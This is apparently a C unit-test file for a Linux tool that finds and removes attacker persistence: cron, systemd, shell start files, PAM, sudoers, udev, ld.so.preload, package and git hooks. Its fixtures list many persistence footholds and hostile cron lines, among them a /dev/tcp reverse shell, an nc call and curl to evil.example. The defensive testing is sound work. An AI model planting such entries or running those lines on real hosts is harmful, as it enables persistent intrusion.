/* SPDX-License-Identifier: GPL-2.0-or-later
 *
 * Every place in which an entry may stand, on a made-up root: what goes, what stays, what is
 * told. The formats by themselves are in test-entry-edit.c.
 */
#include "change/file-edit.h"
#include "change/file-move.h"
#include "plan-stage.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

extern const struct action persist_find;
extern const struct action persist_remove;

#define EVIL "/tmp/.x/evil"
#define PASSWD "root:x:0:0::/root:/bin/bash\nlp:x:7:7::/var/spool/lpd:/usr/sbin/nologin\nnobody:x:9:9::/nonexistent:/x\n" \
	"alice:x:1001:1001::/home/alice:/bin/zsh\nsync:x:4:4::/:/bin/sync\n"

static int remove_it(struct stage *s)
{
	return persist_remove.plan(&s->host, s->args, s->plan);
}

static int find_it(struct stage *s)
{
	return persist_find.plan(&s->host, s->args, s->plan);
}

static void open_bare(struct stage *s)
{
	open_stage(s);
	put(s, "/etc/passwd", PASSWD);
}

static void open_on(struct stage *s)
{
	open_bare(s);
	set(s, "references", TYPE_TEXT, EVIL);
}

static void set_since(struct stage *s, const char *since)
{
	struct value v = {.type = TYPE_TIME};
	strv_add(&v.items, since);
	assert_int_equal(args_set(s->args, "since", &v), 0);
	value_free(&v);
}

/* A file of a place with its entry alone, or with others. */
struct row {
	const char *path, *before, *after; /* after NULL: it goes as a whole */
};

static const struct row rows[] = {
	/* by the clock */
	{"/var/spool/cron/crontabs/root", "# x\n* * * * * " EVIL "\n1 1 * * * curl https://status.example\n",
	 "# x\n1 1 * * * curl https://status.example\n"},
	{"/var/spool/cron/alice", "@reboot " EVIL "\n", ""},
	{"/etc/crontab", "a=b\n* * * * * root " EVIL "\n", "a=b\n"},
	{"/etc/cron.d/x", "* * * * * root " EVIL "\n* * * * * root good\n", "* * * * * root good\n"},
	{"/etc/anacrontab", "1 5 good good\n1 5 x " EVIL "\n", "1 5 good good\n"},
	{"/etc/cron.hourly/x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/etc/cron.daily/.x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/etc/cron.weekly/x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/etc/cron.monthly/x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/var/spool/cron/atjobs/a00001", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/var/spool/at/a00002", "#!/bin/sh\n" EVIL "\n", NULL},
	/* systemd */
	{"/etc/systemd/system/x1.service", "[Service]\nExecStart=" EVIL "\n[Install]\nWantedBy=multi-user.target\n", NULL},
	{"/run/systemd/system/x2.service", "[Service]\nExecStart=-" EVIL " -d\n", NULL},
	{"/usr/local/lib/systemd/system/x3.service", "[Service]\nExecStart=@" EVIL " evil\n", NULL},
	{"/usr/lib/systemd/system/x4.service", "[Service]\nExecStart=" EVIL "\n", NULL},
	{"/etc/systemd/user/x5.service", "[Service]\nExecStart=" EVIL "\n", NULL},
	{"/usr/lib/systemd/user/x6.service", "[Service]\nExecStart=" EVIL "\n", NULL},
	{"/root/.config/systemd/user/x7.service", "[Service]\nExecStart=" EVIL "\n", NULL},
	{"/home/alice/.config/systemd/user/x8.service", "[Service]\nExecStart=" EVIL "\n", NULL},
	{"/home/alice/.local/share/systemd/user/x9.service", "[Service]\nExecStart=" EVIL "\n", NULL},
	{"/run/systemd/transient/x10.service", "[Service]\nExecStart=\"" EVIL "\"\n", NULL},
	{"/etc/systemd/system/own.service", "[Service]\nExecStart=/opt/own\nExecStartPost=" EVIL "\nRestart=always\n",
	 "[Service]\nExecStart=/opt/own\nRestart=always\n"},
	{"/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPre=" EVIL "\n", NULL},
	{"/etc/systemd/system/cron.service.d/override.conf", "[Service]\nMemoryMax=1G\nExecStartPre=" EVIL "\n",
	 "[Service]\nMemoryMax=1G\n"},
	{"/home/alice/.config/systemd/user/pipewire.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=" EVIL "\n", NULL},
	{"/etc/systemd/system.conf", "[Manager]\nDefaultEnvironment=LD_PRELOAD=" EVIL "\nLogLevel=info\n",
	 "[Manager]\nLogLevel=info\n"},
	{"/etc/systemd/system-generators/x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/usr/local/lib/systemd/user-generators/x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/usr/lib/systemd/system-shutdown/x", "#!/bin/sh\n" EVIL "\n", NULL},
	/* the boot without it */
	{"/etc/rc.local", "#!/bin/sh -e\nnice " EVIL " &\nexit 0\n", "#!/bin/sh -e\nexit 0\n"},
	{"/etc/inittab", "id:2:initdefault:\nx:2345:respawn:" EVIL "\n", "id:2:initdefault:\n"},
	{"/etc/init.d/x", "#!/bin/sh\n### BEGIN INIT INFO\n" EVIL " start\n", NULL},
	{"/etc/grub.d/99_x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/etc/initramfs-tools/scripts/init-bottom/x", "#!/bin/sh\n" EVIL "\n", NULL},
	/* logins */
	{"/etc/profile.d/x.sh", EVIL " &\n", NULL},
	{"/etc/profile", "umask 022\n" EVIL " &\nexport PATH\n", "umask 022\nexport PATH\n"},
	{"/etc/bash.bashrc", "a\n" EVIL "\n", "a\n"},
	{"/etc/zsh/zshenv", EVIL "\n", ""},
	{"/etc/update-motd.d/99-x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/root/.bashrc", "alias ll='ls -l'\nalias sudo='" EVIL " sudo'\n", "alias ll='ls -l'\n"},
	{"/root/.profile", "if [ -n x ]; then\n\t" EVIL "\nfi\n", "if [ -n x ]; then\n\t:\nfi\n"},
	{"/root/.bash_logout", EVIL "\nclear\n", "clear\n"},
	{"/home/alice/.zshrc", "a\n" EVIL "\n", "a\n"},
	{"/home/alice/.zlogout", EVIL "\n", ""},
	{"/home/alice/.config/fish/config.fish", "a\n" EVIL "\n", "a\n"},
	{"/home/alice/.config/fish/conf.d/x.fish", EVIL "\n", NULL},
	{"/var/spool/lpd/.bash_profile", EVIL "\n", ""},
	{"/.profile", "a\n" EVIL "\n", "a\n"},
	{"/home/alice/.ssh/rc", EVIL "\n", ""},
	{"/etc/environment", "A=b\nLD_PRELOAD=" EVIL "\n", "A=b\n"},
	{"/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nName=System\nExec=" EVIL "\n", NULL},
	{"/home/alice/.config/autostart/x.desktop", "[Desktop Entry]\nExec=sh -c " EVIL "\n", NULL},
	/* devices, modules, network */
	{"/etc/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"" EVIL "\"\nKERNEL==\"a\", NAME=\"b\"\n",
	 "KERNEL==\"a\", NAME=\"b\"\n"},
	{"/usr/lib/udev/rules.d/99-x.rules", "RUN+=\"" EVIL "\"\n", NULL},
	{"/etc/modules-load.d/x.conf", "loop\n# evil\n" EVIL "\n", "loop\n# evil\n"},
	{"/etc/modprobe.d/x.conf", "options loop a=1\ninstall usb /bin/sh " EVIL "\n", "options loop a=1\n"},
	{"/etc/NetworkManager/dispatcher.d/99-x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/etc/NetworkManager/dispatcher.d/pre-up.d/x", "#!/bin/sh\n" EVIL "\n", NULL},
	{"/etc/network/if-up.d/x", "#!/bin/sh\n" EVIL "\n", NULL},
	/* what privileged programs load and allow */
	{"/etc/sudoers", "root ALL=(ALL) ALL\nbob ALL=NOPASSWD: " EVIL "\n", "root ALL=(ALL) ALL\n"},
	{"/etc/sudoers.d/x", "bob ALL=NOPASSWD: " EVIL "\n", NULL},
	{"/etc/ld.so.preload", EVIL "\n", NULL},
	{"/etc/pam.d/sshd", "@include common-auth\nauth optional pam_exec.so " EVIL "\n", "@include common-auth\n"},
	{"/etc/pam.conf", "sshd auth optional pam_exec.so " EVIL "\nsu auth required pam_unix.so\n",
	 "su auth required pam_unix.so\n"},
	/* packages */
	{"/etc/apt/apt.conf.d/99x", "DPkg::Post-Invoke {\"" EVIL "\";};\n", NULL},
	{"/etc/apt/apt.conf", "A \"b\";\nAPT::Update::Pre-Invoke {\"" EVIL "\";};\n", "A \"b\";\n"},
	{"/etc/dpkg/dpkg.cfg.d/x", "post-invoke=" EVIL "\n", NULL},
};

#define N_ROWS (sizeof(rows) / sizeof(*rows))

static void every_place_is_searched(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	for (size_t i = 0; i < N_ROWS; i++)
		put(&s, rows[i].path, rows[i].before);
	_cleanup_buf_ struct buf count = {0};
	buf_printf(&count, "%zu", N_ROWS);
	assert_int_equal(find_it(&s), 0);
	assert_count(&s, buf_text(&count), 0);
	assert_int_equal(plan_facts(s.plan, "file")->n, N_ROWS);
	plan_anew(&s);
	assert_int_equal(remove_it(&s), 0);
	for (size_t i = 0; i < N_ROWS; i++) {
		if (rows[i].after)
			assert_edited(&s, rows[i].path, rows[i].after);
		else
			assert_taken(&s, rows[i].path);
		assert_true(is_fact(&s, "file", rows[i].path));
		assert_true(noted(plan_notes(s.plan), rows[i].path));
	}
	assert_count(&s, buf_text(&count), N_ROWS);
	assert_int_equal(plan_residuals(s.plan)->n, 0);
	assert_int_equal(s.host.blind.n, 0);
}

/* The same files with honest entries: nothing goes, whatever else is searched for. */
static void honest_entries_stay(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	for (size_t i = 0; i < N_ROWS; i++) {
		_cleanup_buf_ struct buf honest = {0};
		for (const char *p = rows[i].before, *at; (at = strstr(p, EVIL)) || *p; p = at + strlen(EVIL)) {
			buf_add(&honest, p, at ? (size_t)(at - p) : strlen(p));
			if (!at)
				break;
			buf_puts(&honest, "/opt/good");
		}
		put(&s, rows[i].path, buf_text(&honest));
	}
	assert_int_equal(remove_it(&s), 0);
	assert_count(&s, "0", 0);
	assert_int_equal(plan_notes(s.plan)->n + plan_residuals(s.plan)->n, 0);
}

static size_t place_of(const struct stage *s, const char *path)
{
	for (size_t i = 0; i < plan_count(s->plan); i++)
		if (strcmp(plan_at(s->plan, i)->target, path) == 0)
			return i;
	fail_msg("%s is not planned", path);
	return 0;
}

static void what_leads_goes_before_what_is_led_to(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	set(&s, "match", TYPE_TEXT, "/etc/cron.hourly/led");
	put(&s, "/etc/cron.hourly/led", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/etc/crontab", "* * * * * root /etc/cron.hourly/led\n");
	put(&s, "/etc/systemd/system/x.service", "[Service]\nExecStart=" EVIL "\n");
	put(&s, "/etc/systemd/system/x.timer", "[Timer]\nOnBootSec=1\n");
	put(&s, "/etc/systemd/system/y.timer", "[Timer]\nOnBootSec=1\nUnit=x.service\n");
	put(&s, "/etc/systemd/system/a.path", "[Path]\nPathChanged=/etc\nUnit=x.service\n");
	put(&s, "/etc/systemd/system/z.timer", "[Timer]\nOnBootSec=1\nUnit=honest.service\n");
	put(&s, "/etc/systemd/system/honest.service", "[Service]\nExecStart=/opt/good\n");
	put(&s, "/home/alice/.config/systemd/user/x.timer", "[Timer]\nOnBootSec=1\n");
	assert_int_equal(remove_it(&s), 0);
	size_t service = place_of(&s, "/etc/systemd/system/x.service");
	assert_true(place_of(&s, "/etc/systemd/system/x.timer") < service);
	assert_true(place_of(&s, "/etc/systemd/system/y.timer") < service);
	assert_true(place_of(&s, "/etc/systemd/system/a.path") < service);
	assert_true(service < place_of(&s, "/etc/crontab"));
	assert_true(place_of(&s, "/etc/crontab") < place_of(&s, "/etc/cron.hourly/led"));
	assert_untouched(&s, "/etc/systemd/system/z.timer");
	assert_untouched(&s, "/home/alice/.config/systemd/user/x.timer");
	assert_true(is_fact(&s, "unit", "x.service") && is_fact(&s, "unit", "y.timer"));
	assert_true(noted(plan_notes(s.plan), "y.timer (a unit): it starts x.service"));
	assert_count(&s, "6", 6);
}

static void what_a_package_owns_is_left(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	put(&s, "/usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd\nExecStartPost=" EVIL "\n");
	put(&s, "/usr/lib/udev/rules.d/50-x.rules", "RUN+=\"" EVIL "\"\n");
	put(&s, "/etc/init.d/ssh", "#!/bin/sh\n/usr/sbin/sshd\n" EVIL " &\nexit 0\n");
	put(&s, "/etc/cron.daily/dpkg", "#!/bin/sh\nif " EVIL "; then\n a\nfi\n");
	put(&s, "/etc/crontab", "* * * * * root " EVIL "\n17 * * * * root good\n");
	OWNS(&s, "openssh-server", "/usr/lib/systemd/system/ssh.service", "/etc/init.d/ssh");
	OWNS(&s, "other", "/usr/lib/udev/rules.d/50-x.rules", "/etc/cron.daily/dpkg", "/etc/crontab");
	assert_int_equal(remove_it(&s), 0);
	assert_untouched(&s, "/usr/lib/systemd/system/ssh.service");
	assert_untouched(&s, "/usr/lib/udev/rules.d/50-x.rules");
	assert_untouched(&s, "/etc/cron.daily/dpkg");
	assert_edited(&s, "/etc/init.d/ssh", "#!/bin/sh\n/usr/sbin/sshd\nexit 0\n");
	assert_edited(&s, "/etc/crontab", "17 * * * * root good\n");
	assert_count(&s, "2", 2);
	assert_true(noted(plan_residuals(s.plan), "ssh.service belongs to the package openssh-server: nothing of a package"));
	assert_true(noted(plan_residuals(s.plan), "50-x.rules belongs to the package other"));
	assert_true(noted(plan_residuals(s.plan), "/etc/cron.daily/dpkg (a script that runs daily), line 2: names " EVIL
	                                          ", but is part of something larger"));
	assert_true(noted(plan_notes(s.plan), "/etc/crontab (the system's crontab), line 1: names " EVIL
	                                      "; the file belongs to the package other"));
}

#define MODULES "/usr/lib/x86_64-linux-gnu/security/"

static void foreign_modules_of_pam_go(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_bare(&s);
	static const char *const names[] = {MODULES "pam_evil.so", MODULES "pam_unix.so", "/opt/gone.so", NULL};
	set_list(&s, "references", TYPE_TEXT, names);
	put(&s, MODULES "pam_unix.so", "x");
	put(&s, MODULES "pam_evil.so", "x");
	put(&s, MODULES "pam_mine.so", "x");
	OWNS(&s, "libpam-modules", MODULES "pam_unix.so", MODULES "pam_deny.so");
	put(&s, "/etc/pam.d/common-auth",
	    "auth [success=2 default=ignore] pam_unix.so\nauth sufficient pam_evil.so\nauth requisite pam_deny.so\n"
	    "auth required pam_mine.so\n");
	put(&s, "/etc/pam.d/su", "session optional /opt/gone.so\nsession required pam_unix.so\n");
	assert_int_equal(remove_it(&s), 0);
	assert_edited(&s, "/etc/pam.d/common-auth",
	              "auth [success=1 default=ignore] pam_unix.so\nauth requisite pam_deny.so\nauth required pam_mine.so\n");
	assert_edited(&s, "/etc/pam.d/su", "session required pam_unix.so\n");
	assert_count(&s, "2", 2);
	assert_true(noted(plan_residuals(s.plan), "pam_unix.so belongs to the package libpam-modules: no entry is told by it"));
	assert_true(noted(plan_notes(s.plan), "line 2: loads what is searched for"));
}

/* By its text, a package's module is never taken out. */
static void a_stack_keeps_its_packages_modules(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	set(&s, "match", TYPE_TEXT, "pam_");
	put(&s, MODULES "pam_unix.so", "x");
	OWNS(&s, "libpam-modules", MODULES "pam_unix.so");
	put(&s, "/etc/pam.d/common-auth", "auth required pam_unix.so\nauth required pam_foreign.so\n");
	assert_int_equal(remove_it(&s), 0);
	assert_edited(&s, "/etc/pam.d/common-auth", "auth required pam_unix.so\n");
	assert_true(noted(plan_notes(s.plan), "line 1: holds pam_: a module of a package is never taken out of the stack"));
}

/* Every time of the file is now, unless it is set; ctime cannot be set back. */
static void by_time_whole_files_go(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_bare(&s);
	put(&s, "/etc/cron.hourly/new", "#!/bin/sh\ntrue\n");
	put(&s, "/etc/systemd/system/new.service", "[Service]\nExecStart=/opt/x\n");
	put(&s, "/etc/cron.daily/packaged", "#!/bin/sh\ntrue\n");
	OWNS(&s, "other", "/etc/cron.daily/packaged");
	put(&s, "/etc/crontab", "* * * * * root x\n");
	put(&s, MODULES "pam_new.so", "x");
	put(&s, "/etc/pam.d/su", "auth required pam_new.so\nauth required pam_gone.so\n");
	put(&s, "/opt/new.so", "x");
	put(&s, "/etc/ld.so.preload", "/opt/new.so\n/opt/gone.so\n");
	set_since(&s, "3600000ms");
	assert_int_equal(remove_it(&s), 0);
	assert_taken(&s, "/etc/cron.hourly/new");
	assert_taken(&s, "/etc/systemd/system/new.service");
	assert_edited(&s, "/etc/pam.d/su", "auth required pam_gone.so\n");
	assert_edited(&s, "/etc/ld.so.preload", "/opt/gone.so\n");
	assert_count(&s, "4", 4);
	assert_true(noted(plan_residuals(s.plan), "/etc/crontab: changed since then, and nothing tells which"));
	assert_true(noted(plan_residuals(s.plan), "/etc/cron.daily/packaged belongs to the package other: changed since"));
}

/* With something that is searched for, the time narrows it. */
static void time_narrows_what_is_searched_for(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	put(&s, "/etc/crontab", "* * * * * root " EVIL "\n");
	put(&s, "/etc/cron.hourly/other", "#!/bin/sh\ntrue\n");
	set_since(&s, "3600000ms");
	assert_int_equal(remove_it(&s), 0);
	assert_edited(&s, "/etc/crontab", "");
	assert_count(&s, "1", 1);
}

static void nothing_was_changed_in_the_future(void **state)
{
	(void)state;
	_cleanup_buf_ struct buf later = {0};
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	put(&s, "/etc/crontab", "* * * * * root " EVIL "\n");
	buf_printf(&later, "@%lld", (long long)time(NULL) + 3600);
	set_since(&s, buf_text(&later));
	assert_int_equal(remove_it(&s), 0);
	assert_count(&s, "0", 0);
}

static void entries_lead_to_programs(void **state)
{
	(void)state;
	char full[PATH_MAX];
	_cleanup_(close_stage) struct stage s;
	open_bare(&s);
	put(&s, "/opt/evil.so", "\177ELF");
	put(&s, "/usr/local/bin/tool", "x");
	put(&s, "/bin/sh", "\177ELF");
	put(&s, "/var/log/x.log", "text");
	OWNS(&s, "dash", "/bin/sh");
	full_path(&s, "/usr/local/bin/tool", full);
	assert_int_equal(chmod(full, 0755), 0);
	static const char *const names[] = {EVIL, "/opt/evil.so", NULL};
	set_list(&s, "references", TYPE_TEXT, names);
	put(&s, EVIL, "data");
	put(&s, "/etc/crontab", "* * * * * root /bin/sh -c '/usr/local/bin/tool; " EVIL "' >/var/log/x.log\n# /bin/no\n");
	put(&s, "/etc/ld.so.preload", "/opt/evil.so\n");
	assert_int_equal(find_it(&s), 0);
	const struct strv *paths = plan_facts(s.plan, "path");
	assert_int_equal(paths->n, 3);
	assert_true(strv_has(paths, EVIL) && strv_has(paths, "/opt/evil.so") && strv_has(paths, "/usr/local/bin/tool"));
}

static void references_are_of_many_kinds(void **state)
{
	(void)state;
	static const char *const names[] = {"203.0.113.67:3333", "[2001:db8::1]:22", "198.51.100.0/24", "evil.example", NULL};
	_cleanup_(close_stage) struct stage s;
	open_bare(&s);
	set_list(&s, "references", TYPE_TEXT, names);
	put(&s, "/etc/cron.d/a", "* * * * * root sh >/dev/tcp/203.0.113.67/1\n* * * * * root curl http://203.0.113.68\n");
	put(&s, "/etc/cron.d/b", "* * * * * root curl 'http://[2001:DB8:0::1]/'\n");
	put(&s, "/etc/cron.d/c", "* * * * * root nc 198.51.100.9 1\n");
	put(&s, "/etc/cron.d/d", "* * * * * root curl Evil.Example/x\n* * * * * root curl good.example\n");
	assert_int_equal(remove_it(&s), 0);
	assert_edited(&s, "/etc/cron.d/a", "* * * * * root curl http://203.0.113.68\n");
	assert_edited(&s, "/etc/cron.d/b", "");
	assert_edited(&s, "/etc/cron.d/c", "");
	assert_edited(&s, "/etc/cron.d/d", "* * * * * root curl good.example\n");
	assert_count(&s, "4", 4);
}

static void references_that_say_nothing_are_errors(void **state)
{
	(void)state;
	static const char *const bad[] = {"/", "evil", "0.0.0.0/0", "a b.c", "/tmp/../x", "1.2.3", "[::1", "x:y"};
	for (size_t i = 0; i < sizeof(bad) / sizeof(*bad); i++) {
		_cleanup_(close_stage) struct stage s;
		open_bare(&s);
		put(&s, "/etc/crontab", "* * * * * root x\n");
		set(&s, "references", TYPE_TEXT, bad[i]);
		assert_int_equal(remove_it(&s), -EINVAL);
		assert_true(strlen(plan_failure(s.plan)) > 0);
		assert_int_equal(plan_count(s.plan), 0);
	}
}

static void empty_lists_mean_nothing_to_do(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_bare(&s);
	put(&s, "/etc/cron.hourly/x", "#!/bin/sh\n" EVIL "\n");
	set(&s, "references", TYPE_TEXT, NULL);
	set_since(&s, "3600000ms"); /* it narrows what is empty */
	assert_int_equal(remove_it(&s), 0);
	assert_count(&s, "0", 0);
}

static void what_is_only_mentioned_is_told(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	put(&s, "/root/.bashrc", "# not " EVIL "\n");
	put(&s, "/etc/systemd/system/x.service", "[Unit]\nDescription=removes " EVIL "\n[Service]\nExecStart=/opt/a\n");
	put(&s, "/etc/cron.daily/x", "#!/bin/sh\n# " EVIL "\n");
	assert_int_equal(remove_it(&s), 0);
	assert_count(&s, "0", 0);
	assert_true(noted(plan_notes(s.plan), ".bashrc (a shell's start or logout file), line 1: names " EVIL
	                                      ", in a comment only: left alone"));
	assert_true(noted(plan_notes(s.plan), "x.service (a unit), line 2: names " EVIL ": nothing that it does"));
	assert_true(noted(plan_notes(s.plan), "/etc/cron.daily/x"));
	assert_int_equal(plan_residuals(s.plan)->n, 0);
}

static void make_node(const struct stage *s, const char *path, mode_t type)
{
	char full[PATH_MAX];
	full_path(s, path, full);
	assert_int_equal(mknod(full, type | 0644, 0), 0);
}

static void nothing_in_a_place_does_harm(void **state)
{
	(void)state;
	if (geteuid() != 0)
		skip();
	char full[PATH_MAX];
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	make_node(&s, "/etc/profile.d/fifo.sh", S_IFIFO);
	make_node(&s, "/etc/pam.d/fifo", S_IFIFO);
	make_node(&s, "/root/.bashrc", S_IFIFO);
	make_node(&s, "/etc/ld.so.preload", S_IFSOCK);
	full_path(&s, "/etc/systemd/system/x.service/y", full);
	link_to(&s, "/dev/null", "/etc/systemd/system/masked.service");
	link_to(&s, "/nowhere", "/etc/profile.d/dangling.sh");
	link_to(&s, "loop.sh", "/etc/profile.d/loop.sh");
	put(&s, "/etc/profile.d/bin.sh", "\177ELF\1\2\3\xff\xfe \r\b /tmp/.x/evi\n");
	put(&s, "/etc/profile.d/evil\n\033[2J.sh", EVIL "\n");
	/* a user's links: to somebody else's file, and to their own */
	full_path(&s, "/home/alice/x", full);
	*strrchr(full, '/') = '\0';
	assert_int_equal(chown(full, 1001, 1001), 0);
	put(&s, "/etc/secret", EVIL "\n");
	link_to(&s, "/etc/secret", "/home/alice/.zshrc");
	link_to(&s, "/dev/null", "/home/alice/.profile");
	put(&s, "/home/alice/dotfiles/bashrc", "a\n" EVIL "\n");
	full_path(&s, "/home/alice/dotfiles/bashrc", full);
	assert_int_equal(chown(full, 1001, 1001), 0);
	link_to(&s, "dotfiles/bashrc", "/home/alice/.bashrc");
	/* a hole of a terabyte */
	put(&s, "/etc/rc.local", "");
	full_path(&s, "/etc/rc.local", full);
	assert_int_equal(truncate(full, 1LL << 40), 0);
	assert_int_equal(remove_it(&s), 0);
	assert_taken(&s, "/etc/profile.d/evil\n\033[2J.sh");
	assert_edited(&s, "/home/alice/dotfiles/bashrc", "a\n");
	assert_count(&s, "2", 2);
	assert_true(noted(plan_residuals(s.plan), "/home/alice/.zshrc leads through a symbolic link"));
	assert_true(noted(plan_residuals(s.plan), "/etc/rc.local is too large"));
	assert_int_equal(plan_residuals(s.plan)->n, 2);
	for (size_t i = 0; i < plan_notes(s.plan)->n; i++)
		assert_null(strpbrk(plan_notes(s.plan)->v[i], "\n\r\033"));
}

static void hooks_of_repositories(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	set(&s, "tree", TYPE_PATH, "/srv");
	put(&s, "/srv/a/.git/HEAD", "ref: refs/heads/main\n");
	put(&s, "/srv/a/.git/hooks/post-merge", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/srv/a/.git/hooks/pre-commit", "#!/bin/sh\nmake check\n");
	put(&s, "/srv/a/.git/hooks/update.sample", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/srv/bare.git/HEAD", "ref: refs/heads/main\n");
	put(&s, "/srv/bare.git/hooks/post-receive", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/srv/no/hooks/x", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/opt/b/.git/HEAD", "ref: refs/heads/main\n");
	put(&s, "/opt/b/.git/hooks/post-merge", "#!/bin/sh\n" EVIL "\n");
	link_to(&s, "/opt/b", "/srv/link");
	assert_int_equal(remove_it(&s), 0);
	assert_taken(&s, "/srv/a/.git/hooks/post-merge");
	assert_taken(&s, "/srv/bare.git/hooks/post-receive");
	assert_count(&s, "2", 2);
}

static void earlier_steps_are_seen(void **state)
{
	(void)state;
	_cleanup_buf_ struct buf before = {0}, after = {0};
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	put(&s, "/etc/rc.local", EVIL "\n" EVIL " 2\n");
	put(&s, "/etc/cron.hourly/x", EVIL "\n");
	assert_int_equal(file_move_plan(&s.host, s.plan, "/etc/cron.hourly/x", NULL, NULL), 0);
	assert_int_equal(file_edit_read(&s.host, s.plan, "/etc/rc.local", &before), 0);
	buf_puts(&after, "a\n" EVIL " 2\n");
	assert_int_equal(file_edit_plan(&s.host, s.plan, "/etc/rc.local", &before, &after, NULL, NULL), 0);
	assert_int_equal(plan_begin_step(s.plan, "next"), 0);
	assert_int_equal(remove_it(&s), 0);
	assert_count(&s, "1", 3);
	assert_string_equal(buf_text(&plan_at(s.plan, 2)->result), "a\n");
}

static void the_whole_script_goes_and_says_so(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	put(&s, "/etc/profile.d/x.sh", "a=1\n# c\n" EVIL " $a\nb\n");
	assert_int_equal(remove_it(&s), 0);
	assert_taken(&s, "/etc/profile.d/x.sh");
	assert_true(noted(plan_notes(s.plan), "x.sh: 2 more lines of it that do something go with it"));
}

static void files_of_sudo_are_checked(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_on(&s);
	put(&s, "/etc/sudoers.d/a", "x ALL=ALL\ny ALL=" EVIL "\n");
	put(&s, "/etc/sudoers.d/b~", "y ALL=" EVIL "\n");
	assert_int_equal(remove_it(&s), 0);
	assert_string_equal(change_at(&s, "/etc/sudoers.d/a")->service, "sudoers");
	assert_taken(&s, "/etc/sudoers.d/b~");
	assert_true(noted(plan_notes(s.plan), "b~: sudo passes over files of this name"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_place_is_searched),
		cmocka_unit_test(honest_entries_stay),
		cmocka_unit_test(what_leads_goes_before_what_is_led_to),
		cmocka_unit_test(what_a_package_owns_is_left),
		cmocka_unit_test(foreign_modules_of_pam_go),
		cmocka_unit_test(a_stack_keeps_its_packages_modules),
		cmocka_unit_test(by_time_whole_files_go),
		cmocka_unit_test(time_narrows_what_is_searched_for),
		cmocka_unit_test(nothing_was_changed_in_the_future),
		cmocka_unit_test(entries_lead_to_programs),
		cmocka_unit_test(references_are_of_many_kinds),
		cmocka_unit_test(references_that_say_nothing_are_errors),
		cmocka_unit_test(empty_lists_mean_nothing_to_do),
		cmocka_unit_test(what_is_only_mentioned_is_told),
		cmocka_unit_test(nothing_in_a_place_does_harm),
		cmocka_unit_test(hooks_of_repositories),
		cmocka_unit_test(earlier_steps_are_seen),
		cmocka_unit_test(the_whole_script_goes_and_says_so),
		cmocka_unit_test(files_of_sudo_are_checked),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
